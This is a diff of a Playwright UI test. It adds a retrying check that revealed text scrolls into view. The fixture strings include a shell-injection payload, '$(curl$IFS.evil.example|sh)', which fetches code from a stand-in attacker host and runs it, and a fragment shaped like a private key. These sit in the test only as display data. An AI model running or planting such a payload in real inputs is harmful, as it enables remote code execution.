@@ -54,6 +54,15 @@ const shoot = async (name: string, page = visit.page) => {
 const isAlive = () => visit.page.locator('.decide-once[aria-disabled=false]').waitFor();
 
 /** Whether the text is where a person can see it, not only somewhere on the page. */
+/** Scrolling takes a moment. */
+async function comesIntoView(text: string): Promise<void> {
+  for (let looked = 0; looked < 50; looked++) {
+    if (await isInView(text)) return;
+    await visit.page.waitForTimeout(100);
+  }
+  assert.fail(`${text} is not in view`);
+}
+
 async function isInView(text: string): Promise<boolean> {
   const box = await visit.page.getByText(text, { exact: true }).first().boundingBox();
   const card = await visit.page.locator('.card-scroll').boundingBox();
@@ -110,7 +119,7 @@ test('what is revealed has to be seen as well: all of a long value, and one that
   await seeAll();
   // The first mark has been scrolled away, so that what it stood for is brought into view.
   await revealNext();
-  assert.ok(await isInView('$(curl$IFS.evil.example|sh)'));
+  await comesIntoView('$(curl$IFS.evil.example|sh)');
   // The second one is longer than the screen.
   await revealNext();
   await unseen.waitFor();
@@ -118,7 +127,7 @@ test('what is revealed has to be seen as well: all of a long value, and one that
   await visit.page.keyboard.press('a');
   await shoot('revealed-long');
   await seeAll();
-  assert.ok(await isInView('+MIIEvQIBADANBgkqhkiG9w0BAQEFAASC89'));
+  await comesIntoView('+MIIEvQIBADANBgkqhkiG9w0BAQEFAASC89');
   await visit.page.getByRole('button', { name: 'Hide' }).last().click();
   await isAlive();
   await visit.page.keyboard.press('a');
